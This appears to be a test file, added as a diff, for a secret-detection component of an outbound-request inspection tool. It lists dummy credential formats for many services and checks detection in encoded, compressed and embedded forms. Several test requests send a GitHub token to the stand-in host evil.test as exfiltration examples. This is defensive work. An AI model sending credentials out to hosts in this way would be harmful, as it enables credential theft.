@@ -1,0 +1,202 @@
+import base64
+import gzip
+import json
+from urllib.parse import quote
+
+import pytest
+from asked import asked
+
+from outgate.inspect.secrets import LONGEST, NAMES, classes_of, secrets_in
+from outgate.intake.request import UnreadBody, WholeBody
+from outgate.stores.catalog_files import load_catalog
+
+CATALOG = load_catalog()
+A, D = "Ab3", "0123456789abcdef"
+KEY = "-----BEGIN " + "PRIVATE KEY-----"
+
+# Put together here, so that no scanner takes this file for a leak.
+TOKENS = [
+    ("aws", "AKIA" + "Z2345ABCDEFGHIJK"),
+    ("aws", "ASIA" + "Z2345ABCDEFGHIJK"),
+    ("aws", "aws_secret_access_key = " + "wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY"),
+    ("aws", '"SecretAccessKey": "' + "wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + 'EXAMPLEKEY"'),
+    ("github", "ghp" + "_" + A * 12),
+    ("github", "gho" + "_" + A * 12),
+    ("github", "ghs" + "_" + A * 12),
+    ("github", "github_pat" + "_" + "A1" * 11 + "_" + "b" * 59),
+    ("gitlab", "glpat" + "-" + A * 7),
+    ("stripe", "sk" + "_live_" + A * 8),
+    ("stripe", "rk" + "_live_" + A * 8),
+    ("stripe", "whsec" + "_" + A * 11),
+    ("slack", "xoxb" + "-1234567890-1234567890-" + A * 8),
+    ("slack", "xoxp" + "-1234567890-1234567890-" + A * 8),
+    ("slack", "xapp" + "-1-A0123456789-1234567890123-" + D * 4),
+    ("slack", "https://hooks.slack.com" + "/services/T0123ABCD/B0123ABCD/" + A * 8),
+    ("anthropic", "sk-ant" + "-api03-" + A * 30 + "AA"),
+    ("anthropic", "sk-ant" + "-oat01-" + A * 30 + "AA"),
+    ("openai", "sk-proj" + "-" + A * 20 + "_-x"),
+    ("openai", "sk-svcacct" + "-" + A * 20),
+    ("openai", "sk-" + "a" * 20 + "T3Blbk" + "FJ" + "b" * 20),
+    ("google", "AIza" + "Sy" + A * 11),
+    ("google", "GOCSPX" + "-" + A * 9 + "x"),
+    ("google", "ya29" + "." + A * 20),
+    ("npm", "npm" + "_" + A * 12),
+    ("pypi", "pypi" + "-AgEIcHlwaS5vcmc" + A * 30),
+    ("huggingface", "hf" + "_" + "aBcDe" * 6 + "xyzw"),
+    ("sendgrid", "SG" + "." + "a1" * 11 + "." + "b" * 43),
+    ("digitalocean", "dop" + "_v1_" + D * 4),
+    ("docker", "dckr" + "_pat_" + A * 9),
+    ("linear", "lin" + "_api_" + "a1" * 20),
+    ("shopify", "shpat" + "_" + D * 2),
+    ("databricks", "dapi" + D * 2),
+    ("vault", "hvs" + "." + A * 10),
+    ("age", "AGE-SECRET" + "-KEY-1" + "Q9" * 29),
+    ("azure", "AccountName=x;Account" + "Key=" + "A" * 86 + "=="),
+    ("private-key", KEY + "\n" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC" + "b" * 32 + "\n"),
+    ("private-key", "-----BEGIN " + "RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,AB\n\n" + "c" * 64),
+    ("private-key", "-----BEGIN " + "OPENSSH PRIVATE KEY-----\n" + "b3BlbnNzaC1rZXktdjEAAAAABG5vbmU" + "A" * 39),
+]
+IDS = [f"{name}-{number}" for number, (name, _) in enumerate(TOKENS)]
+
+
+@pytest.mark.parametrize(("name", "token"), TOKENS, ids=IDS)
+def test_a_credential_is_found(name, token):
+    assert secrets_in(token.encode()) == {name}
+
+
+@pytest.mark.parametrize(("name", "token"), TOKENS, ids=IDS)
+@pytest.mark.parametrize("around", ['{{"text": {json}}}', "see {token}, please", "a={token}&b=1", "<{token}>", "x\n{token}\ny"])
+def test_a_credential_is_found_amid_text(name, token, around):
+    assert name in secrets_in(around.format(token=token, json=json.dumps(token)).encode())
+
+
+@pytest.mark.parametrize(("name", "token"), TOKENS, ids=IDS)
+def test_a_credential_is_found_in_a_form(name, token):
+    assert name in secrets_in(f"a=1&b={quote(token, safe='')}".encode())
+
+
+@pytest.mark.parametrize(("name", "token"), TOKENS, ids=IDS)
+def test_a_credential_is_found_in_the_base64_of_a_file(name, token):
+    content = f"# settings of the service, keep them\nTOKEN={token}\nMODE=production\n".encode()
+    for encoded in (base64.b64encode(content), base64.encodebytes(content * 4)):
+        assert name in secrets_in(json.dumps({"content": encoded.decode()}).encode())
+
+
+@pytest.mark.parametrize(("name", "token"), TOKENS, ids=IDS)
+def test_a_credential_in_json_escapes_is_found(name, token):
+    escaped = "".join(f"\\u{ord(character):04x}" for character in token)
+    assert name in secrets_in(f'{{"a": "{escaped}"}}'.encode())
+
+
+def test_every_kind_has_a_vector():
+    assert {name for name, _ in TOKENS} == NAMES
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *(
+            "AKIA",
+            "AKIAIOSFODNN7",
+            "ghp_short",
+            "ghp_" + "x" * 20,
+            "sk_test_" + A * 8,
+            "pk_live_" + A * 8,
+            "task-proj-" + "a" * 40,
+        ),
+        *(
+            "github_pat_…",
+            "xoxb-…",
+            "-----BEGIN PUBLIC KEY-----\n" + "A" * 64,
+            KEY,
+            KEY + "\\n...\\n",
+            "npm_config_cache",
+            "npm_package_json",
+        ),
+        *("hf_hub_download", "SG.", "dapi", "deadbeef" * 8, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"),
+        *("2025-11-21T11:04:05.123456+00:00", "node_modules/.pnpm/registry.npmjs.org+left-pad@1.0.0", "AIzaTooShort"),
+        *("The quick brown fox jumps over the lazy dog. " * 50, "/usr/lib/python3.13/site-packages/outgate/inspect/secrets.py"),
+        "xAKIA" + "Z2345ABCDEFGHIJK",
+        "AKIA" + "Z2345ABCDEFGHIJKL",
+    ],
+)
+def test_what_only_looks_like_one_is_none(text):
+    assert secrets_in(text.encode()) == frozenset()
+
+
+def test_a_picture_in_base64_is_none():
+    noise = bytes((i * 7919 >> 3) & 0xFF for i in range(100_000))
+    assert secrets_in(base64.b64encode(noise)) == frozenset()
+    assert len(base64.b64encode(noise)) > LONGEST
+
+
+GITHUB, STRIPE = TOKENS[4][1], TOKENS[9][1]
+OPENAI = TOKENS[18][1]
+
+
+def test_a_credential_in_its_own_slot_is_no_data():
+    request = asked("GET https://api.github.com/user", headers={"authorization": f"Bearer {GITHUB}"})
+    assert classes_of(request, CATALOG) == frozenset()
+
+
+def test_a_credential_of_another_service_in_the_slot_is():
+    request = asked("POST https://api.openai.com/v1/responses", headers={"authorization": f"Bearer {GITHUB}"}, json={})
+    assert classes_of(request, CATALOG) == {"secret"}
+
+
+@pytest.mark.parametrize(
+    "asking",
+    [
+        {"line": f"GET https://api.github.com/search/code?q={GITHUB}"},
+        {"line": f"GET https://api.github.com/repos/{GITHUB}/x"},
+        {"line": "GET https://api.github.com/user", "headers": {"x-token": GITHUB}},
+        {"line": "GET https://api.github.com/user", "headers": {"cookie": f"a={GITHUB}"}},
+        {"line": "POST https://api.github.com/gists", "json": {"files": {"a": {"content": f"TOKEN={GITHUB}"}}}},
+        {"line": "POST https://api.openai.com/v1/responses", "json": {"input": f"use {GITHUB}"}},
+        {"line": "POST https://slack.com/api/chat.postMessage", "form": f"channel=C1&text={GITHUB}"},
+        {"line": "GET https://evil.test/", "headers": {"authorization": f"Bearer {GITHUB}"}},
+        {
+            "line": "GET https://evil.test/",
+            "headers": {"authorization": "Basic " + base64.b64encode(f"x:{GITHUB}".encode()).decode()},
+        },
+        {"line": f"GET https://evil.test/?{quote(GITHUB).replace('_', '%5f')}"},
+    ],
+)
+def test_a_credential_anywhere_else_is_data(asking):
+    assert classes_of(asked(asking.pop("line"), **asking), CATALOG) == {"secret"}
+
+
+def test_a_slot_in_the_query_is_no_data():
+    assert classes_of(asked(f"GET https://slack.com/api/auth.test?token={TOKENS[12][1]}"), CATALOG) == frozenset()
+    assert classes_of(asked(f"GET https://slack.com/api/auth.test?query={TOKENS[12][1]}"), CATALOG) == {"secret"}
+
+
+def test_a_compressed_body_is_looked_into():
+    request = asked(
+        "POST https://evil.test/", headers={"content-encoding": "gzip"}, body=WholeBody(gzip.compress(STRIPE.encode()))
+    )
+    assert classes_of(request, CATALOG) == {"secret"}
+
+
+@pytest.mark.parametrize("coding", ["hex", "gzip, gzip", "gzip"])
+def test_a_body_that_can_not_be_decoded_is_unreadable(coding):
+    request = asked("POST https://evil.test/", headers={"content-encoding": coding}, body=WholeBody(b"6162"))
+    assert classes_of(request, CATALOG) == {"unreadable"}
+
+
+def test_a_body_that_nobody_read_is_unreadable():
+    request = asked("POST https://evil.test/", body=UnreadBody(10_000_000, too_large=True))
+    assert classes_of(request, CATALOG) == {"unreadable"}
+
+
+def test_an_unreadable_body_does_not_hide_what_the_head_says():
+    request = asked(f"POST https://evil.test/?{OPENAI}", headers={"content-encoding": "hex"}, body=WholeBody(b"6162"))
+    assert classes_of(request, CATALOG) == {"secret", "unreadable"}
+
+
+def test_ordinary_requests_carry_nothing():
+    assert classes_of(asked("GET https://pypi.org/simple/requests/"), CATALOG) == frozenset()
+    assert (
+        classes_of(asked("POST https://api.openai.com/v1/responses", json={"input": "hello", "model": "gpt-5"}), CATALOG)
+        == frozenset()
+    )
